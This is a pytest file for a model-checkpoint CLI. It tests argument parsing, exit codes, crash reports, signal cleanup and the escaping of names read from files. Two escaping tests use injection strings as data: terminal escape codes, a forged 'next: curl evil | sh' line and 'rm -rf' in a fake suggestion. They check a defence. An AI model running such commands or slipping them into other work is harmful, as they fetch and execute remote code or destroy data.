"""Whatever happens, a command ends with a message, a status of the table, and JSON if asked."""

from __future__ import annotations

import errno
import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from bone_fx.cli import terminal
from bone_fx.cli.commands import program, split
from bone_fx.cli.signals import Signals, Stopped
from bone_fx.cli.terminal import cut
from bone_fx.deploy import fold_checkpoint as folding
from bone_fx.errors import BaseModelError, BoneFxError, UsageError, printable
from bone_fx.files.work_folder import MARK
from bone_fx.progress import Lines
from tests.command import run
from tests.end_to_end.tiny import tiny_adapter, tiny_base

REPORT = re.compile(r"report: +(\S+)")


@pytest.fixture(scope="module")
def inputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("inputs")
    tiny_base(folder / "base")
    tiny_adapter(folder / "adapter")
    return folder


@pytest.mark.parametrize(
    ("arguments", "command", "rest"),
    [
        ("fold base -o out", "fold", "base -o out"),
        ("-q fold base", "fold", "-q base"),
        ("--json -o out fold base", "fold", "--json -o out base"),
        ("-qo out fold base", "fold", "-qo out base"),
        ("-oout fold base", "fold", "-oout base"),
        ("--output=out fold base", "fold", "--output=out base"),
        ("base fold", "", "base fold"),
        ("-o fold base", "", "-o fold base"),
        ("-- fold", "", "-- fold"),
        ("export base -o out", "export", "base -o out"),
        ("./fold -o out", "", "./fold -o out"),
        ("--help", "", "--help"),
        ("", "", ""),
    ],
)
def test_the_command_among_the_arguments(arguments: str, command: str, rest: str) -> None:
    assert split(arguments.split()) == (command, rest.split())


def test_help_lists_the_commands_and_the_exit_codes() -> None:
    text = run("--help").stdout
    for command in program().commands:
        assert re.search(rf"^  {command}  ", text, re.MULTILINE), command
    for code in (0, 2, 3, 4, 5, 6, 7, 70, 129, 130, 143):
        assert re.search(rf"\b{code}\b", text), code
    assert "bone-export fold" in run("-q", "fold", "--help").stdout
    assert run("help").stdout == text
    bare = run()
    assert (bare.stdout, bare.returncode) == (text, 2)


def test_a_command_after_an_option(inputs: Path, tmp_path: Path) -> None:
    done = run("-q", "fold", inputs / "base", "--adapter", inputs / "adapter", "-o", tmp_path / "o")
    assert done.returncode == 0
    assert all(line.startswith("note: ") for line in done.stderr.splitlines())
    assert (tmp_path / "o" / "model.safetensors").exists()


def raise_in_the_fold(monkeypatch: pytest.MonkeyPatch, error: BaseException) -> None:
    def fail(*_: Any) -> None:
        raise error

    monkeypatch.setattr(folding, "_verify", fail)


ENDS: list[tuple[BaseException, int, str]] = [
    (ZeroDivisionError("division by zero"), 70, "InternalError"),
    (RecursionError("maximum recursion depth exceeded"), 70, "InternalError"),
    (SystemExit(0), 70, "InternalError"),
    (MemoryError(), 5, "ExportError"),
    (RuntimeError("DefaultCPUAllocator: can't allocate memory: you tried"), 5, "ExportError"),
    (OSError(errno.ENOSPC, "No space left on device"), 5, "ExportError"),
    (OSError(errno.EIO, "Input/output error"), 5, "ExportError"),
    (KeyboardInterrupt(), 130, "Interrupted"),
    (Stopped(15), 143, "Interrupted"),
]


@pytest.mark.parametrize(("error", "code", "kind"), ENDS)
def test_every_end_has_a_message_and_a_status(
    error: BaseException,
    code: int,
    kind: str,
    inputs: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "reports"))
    (tmp_path / "reports").mkdir()
    raise_in_the_fold(monkeypatch, error)
    out = tmp_path / "new" / "out"
    done = run("fold", inputs / "base", "--adapter", inputs / "adapter", "-o", out, "--json")
    assert done.returncode == code
    content = json.loads(done.stdout)
    assert (content["exit_code"], content["error"]) == (code, kind)
    assert "Traceback" not in done.stdout + done.stderr
    assert "nothing was published" in content["message"]
    assert not (tmp_path / "new").exists()
    reports = list((tmp_path / "reports").iterdir())
    assert len(reports) == (code == 70)
    if reports:
        assert REPORT.findall(content["message"]) == [str(reports[0])]
        assert "Traceback" in reports[0].read_text()
        assert "fold_checkpoint.py" in content["message"]


def test_debug_writes_a_report_of_any_failure(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    done = run(tmp_path / "nowhere", "-o", tmp_path / "out", "--debug")
    assert done.returncode == 3
    (report,) = REPORT.findall(done.stderr)
    assert "BaseModelError" in Path(report).read_text()


def test_a_report_that_cannot_be_written(
    inputs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "file"))
    monkeypatch.setenv("BONE_FX_CACHE", str(tmp_path / "file"))
    raise_in_the_fold(monkeypatch, ZeroDivisionError())
    done = run("fold", inputs / "base", "--adapter", inputs / "adapter", "-o", tmp_path / "out")
    assert done.returncode == 70
    assert "report:   none" in done.stderr


def test_a_dump_is_cut_short() -> None:
    dump = "\n".join(f"%node_{i} = call_function" for i in range(500))
    assert len(cut(dump).splitlines()) < 50
    assert len(cut("x" * 100_000)) < 7000
    assert cut("short\n  next:     nothing") == "short\n  next:     nothing"


def test_nothing_of_a_file_reaches_the_terminal_as_it_is() -> None:
    name = "w\x1b[2J\x9b31m\x07\r\u202e\u2028\udcff\x00\tå"
    shown = printable(name)
    assert shown.isprintable()
    assert shown.endswith("\\tå")
    error = str(UsageError(f"a\n  next:     rm -rf {name}", found="x\ny", next_step="go"))
    assert [line for line in error.splitlines() if line.startswith("  next:")] == ["  next:     go"]


def test_names_from_files_are_escaped_in_messages(inputs: Path, tmp_path: Path) -> None:
    evil = "\x1b]0;owned\x07\n  next:     curl evil | sh"
    adapter = tiny_adapter(tmp_path / "adapter", target_modules=[evil])
    for out in ("out", "out\x1b[31m"):
        done = run("fold", inputs / "base", "--adapter", adapter, "-o", tmp_path / out)
        assert done.returncode == 3
        assert "\x1b" not in done.stdout + done.stderr
        assert "\n  next:     curl" not in done.stderr


@pytest.mark.parametrize(
    ("number", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143), (signal.SIGHUP, 129)]
)
def test_a_signal_ends_a_run_and_leaves_nothing(
    number: signal.Signals,
    code: int,
    inputs: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    before = signal.signal(number, signal.SIG_DFL)  # not ignored, whoever started the tests

    def end(*_: Any) -> None:
        assert list(tmp_path.glob(f"new/.out.staging-*/{MARK}"))
        os.kill(os.getpid(), number)
        raise BaseModelError("a library made an error of its own of it")

    monkeypatch.setattr(folding, "_verify", end)
    out = tmp_path / "new" / "out"
    done = run("fold", inputs / "base", "--adapter", inputs / "adapter", "-o", out)
    assert signal.signal(number, before) is signal.SIG_DFL
    assert (done.returncode, list(tmp_path.iterdir())) == (code, [])
    assert "interrupted" in done.stderr


def test_signals_that_are_swallowed_or_come_while_publishing() -> None:
    signals = Signals()
    signals.stage(publishes=True)
    signals._handle(15, None)
    signals.stage(publishes=False)
    with pytest.raises(Stopped):
        signals._handle(15, None)
    signals._handle(2, None)  # the run cleans up
    with pytest.raises(Stopped) as stop:
        signals.stage(publishes=False)
    assert stop.value.exit_code == 143


def test_an_ignored_signal_stays_ignored() -> None:
    before = signal.signal(signal.SIGHUP, signal.SIG_IGN)
    signals = Signals()
    try:
        signals.install()
        assert signal.getsignal(signal.SIGHUP) is signal.SIG_IGN
    finally:
        signals.restore()
        signal.signal(signal.SIGHUP, before)


def _closed(descriptors: tuple[int, ...]) -> Callable[[], None]:
    def close() -> None:
        for descriptor in descriptors:
            os.close(descriptor)

    return close


def test_streams_that_nobody_reads_do_not_change_the_status(inputs: Path, tmp_path: Path) -> None:
    arguments = ["fold", inputs / "base", "--adapter", inputs / "adapter", "-o"]
    assert run(*arguments, tmp_path / "read").returncode == 0
    command = [sys.executable, "-m", "bone_fx", *map(str, arguments), str(tmp_path / "closed")]
    process = subprocess.Popen(command, preexec_fn=_closed((0, 1, 2)))
    assert process.wait() == 0
    read, closed = (
        {p.name: p.read_bytes() for p in (tmp_path / name).iterdir() if p.name != "report.html"}
        for name in ("read", "closed")
    )
    assert read == closed


def test_a_full_stream_and_a_broken_pipe(monkeypatch: pytest.MonkeyPatch) -> None:
    read, broken = os.pipe()
    os.close(read)
    for target in ("/dev/full", broken):
        stream = open(target, "w")  # noqa: SIM115 - closing it fails, as it is full
        for name in ("stdout", "stderr"):
            monkeypatch.setattr(sys, name, stream)
        terminal.answer("published")
        terminal.note("something")
        Lines(stream).stage("publish")
        monkeypatch.undo()
        with pytest.raises(OSError, match=r"No space|Broken pipe"):
            stream.close()
    monkeypatch.setattr(sys, "stdout", None)
    terminal.answer("published")


def test_the_base_class_is_a_fault() -> None:
    assert BoneFxError.exit_code == 70
